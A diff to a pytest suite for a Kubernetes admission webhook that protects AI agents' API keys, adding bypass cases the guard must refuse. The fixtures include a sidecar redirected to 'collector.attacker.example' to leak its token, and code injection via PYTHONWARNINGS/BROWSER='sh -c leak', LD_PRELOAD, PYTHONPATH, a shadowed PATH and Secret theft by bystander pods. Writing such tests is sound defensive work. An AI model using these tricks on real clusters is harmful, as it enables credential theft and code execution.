@@ -38,7 +38,13 @@ def guarded(cluster: Any, crds: list[str], tmp_path_factory: pytest.TempPathFact
     try:
         with running_webhook(cluster, tmp_path_factory.mktemp("bypass-webhook")) as hook:
             for obj in (manifests.service_account(namespace, "agent"), manifests.secret(namespace),
-                        manifests.agent_policy(namespace)):
+                        manifests.service_account(namespace, "bystander"),
+                        manifests.service_account(namespace, LOCAL_AGENT),
+                        manifests.agent_policy(namespace),
+                        manifests.secret(namespace, OTHER_SECRET),
+                        manifests.agent_policy(namespace, "github", subjects=["someone-else"],
+                                               secret_name=OTHER_SECRET),
+                        manifests.secret(namespace, "ollama-key"), _insecure_policy(namespace)):
                 assert admission.apply(cluster, obj).admitted
             answer = admission.wait_until_enforced(cluster, manifests.bare_pod(namespace, "probe"))
             assert not answer.admitted, "the bypass guard did not take effect within 30 s"
@@ -47,6 +53,18 @@ def guarded(cluster: Any, crds: list[str], tmp_path_factory: pytest.TempPathFact
     finally:
         cluster.kubectl("delete", "namespace", namespace, "--wait=false", check=False)
         admission.remove_guards(cluster, text)
+
+
+OTHER_SECRET = "github-token"
+LOCAL_AGENT = "local-agent"
+
+
+def _insecure_policy(namespace: str) -> dict[str, Any]:
+    """A plain-http upstream for ``local-agent``: the key crosses the pod's loopback in the clear."""
+    policy = manifests.agent_policy(namespace, "local-llm", subjects=[LOCAL_AGENT], secret_name="ollama-key",
+                                    url="http://ollama.models.svc:11434")
+    policy["spec"]["upstreams"][0]["insecure"] = True
+    return policy
 
 
 def _wait_for_webhook(cluster: Any, namespace: str) -> None:
@@ -126,6 +144,66 @@ def _sidecar_as_regular_container(pod: dict[str, Any]) -> None:
     pod["spec"]["containers"].append(sidecar)
 
 
+def _sidecar_env(**env: str) -> Callable[[dict[str, Any]], None]:
+    def change(pod: dict[str, Any]) -> None:
+        manifests.sidecar(pod)["env"] += [{"name": k, "value": v} for k, v in env.items()]
+    return change
+
+
+def _moved_apiserver_without_ca(pod: dict[str, Any]) -> None:
+    """The sidecar's client sent to another host, trusting the system CA store."""
+    _sidecar_env(KUBERNETES_SERVICE_HOST="collector.attacker.example", KUBERNETES_SERVICE_PORT="443")(pod)
+    [api] = [v for v in pod["spec"]["volumes"] if v["name"] == contract.API_TOKEN_VOLUME]
+    api["projected"]["sources"] = [s for s in api["projected"]["sources"] if "configMap" not in s]
+
+
+def _code_over_site_packages(pod: dict[str, Any]) -> None:
+    pod["spec"]["volumes"].append({"name": "patched", "configMap": {"name": "patched-sidekey"}})
+    manifests.sidecar(pod)["volumeMounts"].append(
+        {"name": "patched", "mountPath": "/opt/sidekey/lib/python3.11/site-packages/sidekey/core"})
+
+
+def _shadowed_entry_point(pod: dict[str, Any]) -> None:
+    pod["spec"]["volumes"].append({"name": "bin", "configMap": {"name": "evil-bin", "defaultMode": 0o755}})
+    side = manifests.sidecar(pod)
+    side["volumeMounts"].append({"name": "bin", "mountPath": "/tmp/bin"})
+    side["env"].append({"name": "PATH", "value": "/tmp/bin:/usr/bin"})
+    side["command"] = ["sidekey", "proxy"]
+
+
+def _bystander(how: str) -> Callable[[str], dict[str, Any]]:
+    """A pod of an account no policy names, reading the policy's Secret."""
+    def build(ns: str) -> dict[str, Any]:
+        pod = manifests.bare_pod(ns, f"bystander-{how.lower()}", sa="default" if how == "envFrom" else "bystander")
+        agent = manifests.agent(pod)
+        if how == "envFrom":
+            agent["envFrom"] = [{"secretRef": {"name": manifests.SECRET}}]
+        else:
+            pod["spec"]["volumes"] = [{"name": "k", "projected": {"sources": [{"secret": {"name": manifests.SECRET}}]}}]
+            agent["volumeMounts"] = [{"name": "k", "mountPath": "/k"}]
+        return pod
+    return build
+
+
+def _reads_another_policys_secret(pod: dict[str, Any]) -> None:
+    manifests.agent(pod)["env"].append({"name": "GITHUB_TOKEN", "valueFrom": {
+        "secretKeyRef": {"name": OTHER_SECRET, "key": "api-key"}}})
+
+
+def _annotated_bystander(ns: str) -> dict[str, Any]:
+    pod = manifests.bare_pod(ns, "annotated-bystander", sa="bystander",
+                             annotations={contract.ANNOTATION_INJECT: "true"})
+    manifests.agent(pod)["envFrom"] = [{"secretRef": {"name": manifests.SECRET}}]
+    return pod
+
+
+def _keeps_net_raw(ns: str) -> dict[str, Any]:
+    pod = _without_webhook(manifests.injected_pod(ns, "keeps-net-raw", sa=LOCAL_AGENT,
+                                                  policy_list=[_insecure_policy(ns)]))
+    manifests.agent(pod)["securityContext"] = {"capabilities": {"add": ["NET_RAW"]}}
+    return pod
+
+
 #: id -> a pod manifest builder (namespace -> pod). Every one must be refused.
 POD_CASES: dict[str, Callable[[str], dict[str, Any]]] = {
     "bare-pod": lambda ns: manifests.bare_pod(ns, "bare"),
@@ -145,12 +223,32 @@ POD_CASES: dict[str, Callable[[str], dict[str, Any]]] = {
     "automount-left-on": lambda ns: _hand_injected(ns, "automount", _automount_on),
     "a-second-sidecar-named-like-ours": lambda ns: _hand_injected(ns, "twin", _agent_as_second_sidecar),
     "sidecar-as-a-regular-container": lambda ns: _hand_injected(ns, "regular", _sidecar_as_regular_container),
+    # issue 14, High: a look-alike sidecar that hands its API token on
+    "lookalike-sidecar-moves-the-apiserver-and-drops-the-ca": lambda ns: _hand_injected(
+        ns, "moved-apiserver", _moved_apiserver_without_ca),
+    "lookalike-sidecar-runs-code-through-pythonwarnings": lambda ns: _hand_injected(
+        ns, "pythonwarnings", _sidecar_env(PYTHONWARNINGS="ignore::antigravity.Warning", BROWSER="sh -c leak")),
+    "lookalike-sidecar-with-pythonpath": lambda ns: _hand_injected(ns, "pythonpath", _sidecar_env(PYTHONPATH="/tmp/x")),
+    "lookalike-sidecar-with-ld-preload": lambda ns: _hand_injected(ns, "ld-preload", _sidecar_env(LD_PRELOAD="/tmp/x.so")),
+    "lookalike-sidecar-with-a-configmap-over-site-packages": lambda ns: _hand_injected(
+        ns, "site-packages", _code_over_site_packages),
+    "lookalike-sidecar-with-path-and-a-mounted-sidekey": lambda ns: _hand_injected(
+        ns, "shadowed", _shadowed_entry_point),
+    # issue 14, High: any pod in the namespace can mount a policy's Secret
+    "default-account-pod-reads-the-secret-by-envfrom": _bystander("envFrom"),
+    "bystander-pod-mounts-the-secret-by-projected-volume": _bystander("projected"),
+    "subject-of-one-policy-reads-another-policys-secret": lambda ns: _hand_injected(
+        ns, "cross-policy", _reads_another_policys_secret),
+    "annotated-bystander-pod-reads-the-secret-through-the-webhook": _annotated_bystander,
+    # issue 14, Medium: an insecure upstream's key sniffed on loopback
+    "agent-adds-net-raw-beside-an-insecure-upstream": _keeps_net_raw,
 }
 
 
 NO_SIDECAR = "must run with the sidekey sidecar"
 API_TOKEN = "only the sidekey-proxy sidecar may hold it"
-SECRET_REF = "reference a Secret of that policy"
+SECRET_REF = "whatever its service account"
+LOOKALIKE = "let the sidekey webhook inject it"
 #: What each refusal must say (the guard's or the webhook's own words).
 WHY = {
     "bare-pod": NO_SIDECAR, "inject-false": NO_SIDECAR, "pre-stamped-status-annotation": NO_SIDECAR,
@@ -162,6 +260,18 @@ WHY = {
     "agent-reads-the-secret-by-env": SECRET_REF, "agent-reads-the-secret-by-envfrom": SECRET_REF,
     "agent-reads-the-secret-by-volume": SECRET_REF,
     "automount-left-on": "must set automountServiceAccountToken: false",
+    "lookalike-sidecar-moves-the-apiserver-and-drops-the-ca": LOOKALIKE,
+    "lookalike-sidecar-runs-code-through-pythonwarnings": "PYTHONWARNINGS",
+    "lookalike-sidecar-with-pythonpath": "PYTHONPATH",
+    "lookalike-sidecar-with-ld-preload": "LD_PRELOAD",
+    "lookalike-sidecar-with-a-configmap-over-site-packages": "must mount only",
+    "lookalike-sidecar-with-path-and-a-mounted-sidekey": LOOKALIKE,
+    "default-account-pod-reads-the-secret-by-envfrom": f"AgentPolicy openai names ({manifests.SECRET}",
+    "bystander-pod-mounts-the-secret-by-projected-volume": f"AgentPolicy openai names ({manifests.SECRET}",
+    "subject-of-one-policy-reads-another-policys-secret": f"AgentPolicy github names ({OTHER_SECRET}",
+    "annotated-bystander-pod-reads-the-secret-through-the-webhook":
+        f"Secret {manifests.SECRET}, which AgentPolicy openai names",
+    "agent-adds-net-raw-beside-an-insecure-upstream": "is insecure (plain http)",
 }
 
 
@@ -343,6 +453,41 @@ def test_a_policy_author_who_cannot_read_the_secret_cannot_redirect_its_key(
     stored = json.loads(cluster.kubectl("get", "agentpolicy", "openai", "-n", ns, "-o", "json"))
     assert stored["spec"]["upstreams"][0]["url"] == "https://api.openai.com/v1"
     assert stored["spec"]["subjects"]["serviceAccounts"] == ["agent"]
+
+
+TRUDY = "trudy"
+
+
+def test_a_policy_author_who_may_read_their_secret_cannot_name_someone_elses_account(
+        cluster: Any, guarded: tuple[str, RunningWebhook]) -> None:
+    """issue 14, Low "Subjects": naming ``agent`` would lock its uninjected pods out and let an older
+    policy of the author's win the victim's route names. The author must be able to act as the account."""
+    ns, _ = guarded
+    rules = [{"apiGroups": [contract.GROUP], "resources": [contract.PLURAL], "verbs": ["get", "create"]},
+             {"apiGroups": [""], "resources": ["secrets"], "resourceNames": [OTHER_SECRET], "verbs": ["get"]},
+             {"apiGroups": [""], "resources": ["serviceaccounts/token"], "resourceNames": ["bystander"],
+              "verbs": ["create"]}]
+    for obj in [
+        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
+         "metadata": {"name": "trudy", "namespace": ns}, "rules": rules},
+        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
+         "metadata": {"name": "trudy", "namespace": ns},
+         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "trudy"},
+         "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": TRUDY}]},
+    ]:
+        assert admission.apply(cluster, obj).admitted
+    deadline = time.monotonic() + 20
+    while not cluster.kubectl("auth", "can-i", "get", f"secret/{OTHER_SECRET}", "-n", ns,
+                              f"--as={TRUDY}", check=False).strip().startswith("yes"):
+        assert time.monotonic() < deadline, "RBAC for trudy did not apply"
+        time.sleep(0.2)
+    own = manifests.agent_policy(ns, "trudys", subjects=["bystander"], secret_name=OTHER_SECRET)
+    assert admission.create(cluster, own, as_user=TRUDY, dry_run=True).admitted
+    victim = manifests.agent_policy(ns, "trudys", subjects=["bystander", "agent"], secret_name=OTHER_SECRET)
+    answer = admission.create(cluster, victim, as_user=TRUDY)
+    assert not answer.admitted, "a policy naming an account its author cannot act as was admitted"
+    assert "may not create tokens for service account agent" in answer.message, answer.message
+    assert not admission.exists(cluster, "agentpolicy", ns, "trudys")
 
 
 def test_the_count_of_bypass_cases() -> None:
